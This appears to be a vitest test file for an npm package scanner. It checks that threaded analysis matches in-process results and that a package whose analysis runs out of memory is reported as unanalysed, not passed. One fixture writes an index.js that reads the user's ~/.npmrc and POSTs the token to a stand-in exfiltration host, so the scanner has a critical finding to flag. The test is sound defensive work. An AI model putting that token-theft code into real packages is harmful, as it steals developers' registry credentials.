import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { create } from 'tar';
import { describe, expect, inject, it } from 'vitest';
import type { Report } from '../../src/report/build.js';
import { isolatedHome, runCli } from './cli.js';

const registry = inject('registryUrl');
const home = isolatedHome();
/** Attacks and look-alikes of every kind, scanned together so that several packages are in the workers at once. */
const SUBJECTS = [
  'postmark-mcp-bcc-backdoor@1.0.16',
  'files-mcp-helpful-trojan',
  'docs-mcp-server',
  'ua-parser-js-node-dropper',
  'chalk-wallet-drainer',
  'notes-mcp-poisoned',
  'native-addon-example',
  'git-exec-helper',
];

const scanWith = (env: Record<string, string>) =>
  runCli(['scan', ...SUBJECTS, '--registry', registry, '--format', 'json', '--no-cache'], {
    home,
    env,
  }).then((result) => ({ ...result, report: JSON.parse(result.stdout) as Report }));

describe('code analysis on worker threads', () => {
  it('reports exactly what the in-process analysis reports', async () => {
    const [inProcess, threaded] = await Promise.all([
      scanWith({ OCELLUS_WORKERS: '0' }),
      scanWith({ OCELLUS_WORKERS: '2' }),
    ]);
    expect(threaded.code).toBe(inProcess.code);
    expect(threaded.report.packages).toEqual(inProcess.report.packages);
    const severities = threaded.report.packages.flatMap((pkg) => pkg.findings.map((f) => f.severity));
    expect(severities).toContain('critical');
  });

  it('with a memory budget so small that every package waits its turn, the scan still finishes the same', async () => {
    const [inProcess, starved] = await Promise.all([
      scanWith({ OCELLUS_WORKERS: '0' }),
      scanWith({ OCELLUS_WORKERS: '2', OCELLUS_IN_FLIGHT_MB: '0.01' }),
    ]);
    expect(starved.stderr).not.toContain('stopped before it finished');
    expect(starved.code).toBe(inProcess.code);
    expect(starved.report.packages).toEqual(inProcess.report.packages);
  });

  it('a tarball big enough to be moved to the worker, not copied, is analysed the same', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ocellus-moved-'));
    mkdirSync(join(dir, 'package'));
    writeFileSync(join(dir, 'package', 'package.json'), '{"name":"moved-trojan","version":"1.0.0"}');
    writeFileSync(
      join(dir, 'package', 'index.js'),
      `const fs = require('fs'), os = require('os'), path = require('path');
       const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
       fetch('https://collect.example-exfil.invalid/t', { method: 'POST', body: token });`,
    );
    // Incompressible, so the tarball stays over the 64 KB from which it is moved.
    writeFileSync(join(dir, 'package', 'data.bin'), randomBytes(300_000));
    await create({ gzip: true, cwd: dir, file: join(dir, 'moved-trojan-1.0.0.tgz') }, ['package']);
    const scan = (workers: string) =>
      runCli(['scan', './moved-trojan-1.0.0.tgz', '--registry', registry, '--format', 'json', '--no-cache'], {
        home,
        cwd: dir,
        env: { OCELLUS_WORKERS: workers },
      }).then((result) => ({ ...result, report: JSON.parse(result.stdout) as Report }));
    const [inProcess, threaded] = await Promise.all([scan('0'), scan('1')]);
    expect(threaded.code).toBe(inProcess.code);
    expect(threaded.report.packages).toEqual(inProcess.report.packages);
    expect(threaded.report.summary.incomplete).toEqual([]);
    expect(threaded.report.packages[0]?.findings.map((finding) => finding.severity)).toContain('critical');
  });

  it('a worker that runs out of memory leaves its package unanalysed (exit 3), never passed or crashed', async () => {
    // A bundle whose syntax tree outgrows a 32 MB heap while it is parsed (memory grows as the parse goes, as
    // with a hostile file built to exhaust it).
    const dir = mkdtempSync(join(tmpdir(), 'ocellus-big-'));
    mkdirSync(join(dir, 'package'));
    writeFileSync(join(dir, 'package', 'package.json'), '{"name":"big-bundle","version":"1.0.0"}');
    const lines: string[] = [];
    for (let i = 0; i < 60_000; i++) lines.push(`function f${i}(a){return a.map(x=>x+${i}).join("-");}`);
    writeFileSync(join(dir, 'package', 'index.js'), lines.join('\n'));
    await create({ gzip: true, cwd: dir, file: join(dir, 'big-bundle-1.0.0.tgz') }, ['package']);
    const starved = await runCli(
      ['scan', './big-bundle-1.0.0.tgz', '--registry', registry, '--format', 'json', '--no-cache'],
      { home, cwd: dir, env: { OCELLUS_WORKERS: '1', OCELLUS_WORKER_HEAP_MB: '32' } },
    );
    const report = JSON.parse(starved.stdout) as Report;
    expect(starved.code).toBe(3);
    expect(report.summary.verdict).not.toBe('pass');
    expect(report.summary.incomplete.map((mark) => mark.name)).toEqual(['big-bundle']);
    expect(report.summary.incomplete[0]?.reason).toContain('the analysis stopped');
    expect(starved.stderr).toContain('Review these packages by hand');
  });
});
